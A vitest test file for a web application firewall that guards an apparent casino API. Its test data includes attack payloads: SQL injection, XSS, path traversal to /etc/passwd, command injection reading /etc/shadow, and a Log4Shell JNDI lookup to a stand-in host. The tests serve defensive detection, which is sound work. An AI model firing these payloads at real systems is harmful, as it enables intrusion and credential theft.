import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type InspectOptions, inspectRequest, wafBlockResponse } from "./index.ts";

function request(init: {
  method?: string;
  url: string;
  body?: string;
  contentType?: string;
  headers?: Record<string, string>;
}) {
  const headers = new Headers({
    host: "api.croupier.test",
    "user-agent": "Mozilla/5.0",
    accept: "application/json",
    ...init.headers,
  });
  if (init.contentType) headers.set("content-type", init.contentType);
  return {
    method: init.method ?? "GET",
    url: init.url,
    headers,
    body: init.body ?? null,
    contentType: init.contentType ?? null,
  };
}

const PL1 = { paranoiaLevel: 1, routeId: "wallet.deposit" } as const;

describe("inspectRequest", () => {
  it("passes ordinary casino API traffic", () => {
    const body = JSON.stringify({
      amount: "125000000",
      currency: "EUR",
      email: "o'brien.sean+vip@example.ie",
      name: "Seán O'Brien",
      message:
        "Hi, I can't see my deposit from yesterday (ref 7f3c-22). It's been 2 hours; please select the right account & check again!",
      playerId: "ply_01J9Z7Q8K3M4N5P6R7S8T9V0W1",
      returnUrl: "https://casino.example.com/cashier?tab=deposit&lang=en",
    });
    const result = inspectRequest(
      request({
        method: "POST",
        url: "https://api.croupier.test/v1/wallet/deposits",
        body,
        contentType: "application/json",
        headers: {
          referer: "https://casino.example.com/cashier?tab=deposit",
          cookie: "session=abc.def.ghi; consent=analytics%3Dno",
        },
      }),
      PL1,
    );
    expect(result).toEqual({ blocked: false, score: 0, matches: [] });
  });

  it.each([
    ["SQL injection", "/v1/games?sort=1%20UNION%20SELECT%20password%20FROM%20users--", "sqli"],
    ["XSS", "/v1/search?q=%3Csvg%20onload%3Dalert(1)%3E", "xss"],
    ["path traversal", "/v1/files?name=..%2f..%2f..%2fetc%2fpasswd", "lfi"],
    ["command injection", "/v1/ping?host=8.8.8.8%3Bcat%20/etc/shadow", "rce"],
    ["Log4Shell", "/v1/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "java"],
  ])("blocks %s", (_name, path, family) => {
    const result = inspectRequest(request({ url: `https://api.croupier.test${path}` }), PL1);
    expect(result.blocked).toBe(true);
    expect(result.matches.some((match) => match.family === family)).toBe(true);
  });

  it("reads catalog names as whole words: a base64 upload may spell one by chance", () => {
    const upload = (content: string) =>
      inspectRequest(
        request({
          method: "POST",
          url: "https://api.croupier.test/v1/cashier/deposits",
          contentType: "application/json",
          body: JSON.stringify({ receipt: content }),
        }),
        PL1,
      );
    expect(upload("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mMsdbtempdBLA9k").blocked).toBe(
      false,
    );
    expect(upload("aGVsbG8gd29ybGQgbXNkYnRoZXJlIHRhYmxlc2l0ZXMgcGdfdXNlcnMK+msdbx/Q==").blocked).toBe(false);
    for (const attack of [
      "1 union select name from master..sysdatabases--",
      "x' and 1=(select count(*) from msdb.dbo.backupset)--",
      "1;select * from pg_user",
      "' union select table_name from information_schema.tables--",
    ])
      expect(upload(attack).blocked).toBe(true);
  });

  it("skips password fields on auth routes so players may choose any password", () => {
    const body = JSON.stringify({ email: "a@example.com", password: "' OR 1=1 -- <script>" });
    const input = request({
      method: "POST",
      url: "https://api.croupier.test/v1/auth/register",
      body,
      contentType: "application/json",
    });
    expect(inspectRequest(input, { paranoiaLevel: 1, routeId: "auth.register" }).blocked).toBe(false);
    expect(inspectRequest(input, { paranoiaLevel: 1, routeId: "wallet.deposit" }).blocked).toBe(true);
  });

  it("accepts writes only on routes that serve them, as the route table says", () => {
    const put = request({
      method: "PUT",
      url: "https://api.croupier.test/v1/limits",
      body: '{"deposit":{"daily":"5000"}}',
      contentType: "application/json",
    });
    const blockedBy = (input: ReturnType<typeof request>, allowedMethods?: string[]) =>
      inspectRequest(input, { paranoiaLevel: 1, routeId: "limits.update", allowedMethods })
        .matches.filter((match) => match.ruleId === "protocol-method-not-allowed")
        .map((match) => match.target);
    expect(blockedBy(put, ["PUT"])).toEqual([]);
    expect(blockedBy(put)).toEqual(["method"]);
    expect(blockedBy({ ...put, method: "DELETE" }, ["PUT"])).toEqual(["method"]);
    for (const method of ["GET", "HEAD", "POST", "OPTIONS"])
      expect(blockedBy({ ...put, method }, undefined)).toEqual([]);
    expect(blockedBy({ ...put, method: "PROPFIND" }, ["PUT"])).toEqual(["method"]);
    const override = request({
      method: "POST",
      url: "https://api.croupier.test/v1/limits",
      headers: { "x-http-method-override": "DELETE" },
    });
    expect(blockedBy(override, ["POST"])).toEqual(["header.x-http-method-override"]);
  });

  it("reads a JSON Content-Type as a JSON client even without a body", () => {
    const url = "https://api.croupier.test/v1/search?q=%5Cu0061lert";
    const ids = (contentType?: string) =>
      inspectRequest(request({ method: "POST", url, contentType }), PL1).matches.map((m) => m.ruleId);
    expect(ids("application/json")).not.toContain("protocol-backslash-unicode-escape");
    expect(ids()).toContain("protocol-backslash-unicode-escape");
  });

  it("honours a custom exclusion table by family and target prefix", () => {
    const input = request({ url: "https://api.croupier.test/v1/cms?html=%3Cscript%3Ealert(1)%3C/script%3E" });
    const options: InspectOptions = {
      paranoiaLevel: 1,
      routeId: "cms.edit",
      routeExclusions: [{ routeId: "cms.edit", exclude: [{ family: "xss", target: "query.*" }] }],
    };
    expect(inspectRequest(input, options).matches.filter((match) => match.family === "xss")).toEqual([]);
  });

  it("adds stricter signals only at higher paranoia levels", () => {
    const input = request({ url: "https://api.croupier.test/v1/search?q=%3Cb%20class%3Dx%3Ebold%3C%2Fb%3E" });
    const levels = ([1, 2, 3, 4] as const).map((paranoiaLevel) =>
      inspectRequest(input, { paranoiaLevel, routeId: "api" }),
    );
    expect(levels[0]?.matches).toEqual([]);
    expect(levels[1]?.matches.map((match) => match.ruleId)).toContain("xss-markup-with-attribute");
    for (let level = 1; level < levels.length; level++) {
      expect(levels[level]?.score ?? 0).toBeGreaterThanOrEqual(levels[level - 1]?.score ?? 0);
    }
  });

  it("never throws, whatever the client sends", () => {
    const contentTypes = [
      "application/json",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=b",
      "text/xml",
      "",
      "garbage/;;",
    ];
    fc.assert(
      fc.property(
        fc.string({ maxLength: 300 }),
        fc.string({ maxLength: 600 }),
        fc.constantFrom(...contentTypes),
        (path, body, type) => {
          const result = inspectRequest(
            {
              method: "POST",
              url: `https://api.croupier.test/${path}`,
              headers: new Headers(),
              body,
              contentType: type === "" ? null : type,
            },
            { paranoiaLevel: 4, routeId: "api" },
          );
          return typeof result.blocked === "boolean" && result.score >= 0;
        },
      ),
      { numRuns: 300 },
    );
  });

  it("answers a block with problem+json carrying only a reference", async () => {
    const response = wafBlockResponse("waf_0123456789abcdef0123", "req_1");
    expect(response.status).toBe(403);
    expect(response.headers.get("content-type")).toBe("application/problem+json");
    const problem = (await response.json()) as Record<string, unknown>;
    expect(problem).toMatchObject({ status: 403, reference: "waf_0123456789abcdef0123", instance: "req_1" });
    expect(JSON.stringify(problem)).not.toMatch(/sqli|xss|rule/i);
  });
});
